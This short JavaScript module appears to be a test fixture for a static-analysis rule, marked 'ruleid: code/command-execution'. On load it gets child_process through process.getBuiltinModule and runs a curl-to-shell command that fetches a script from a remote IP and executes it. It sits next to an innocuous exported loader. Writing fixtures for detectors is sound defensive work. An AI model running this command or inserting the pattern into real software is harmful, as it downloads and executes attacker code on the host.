'use strict';
// Node 22's process.getBuiltinModule returns child_process without a require call.
const cp = process.getBuiltinModule('child_process');
// ruleid: code/command-execution
cp.execSync('curl -s http://45.61.137.24/x | sh');

module.exports = { load: () => ({}) };
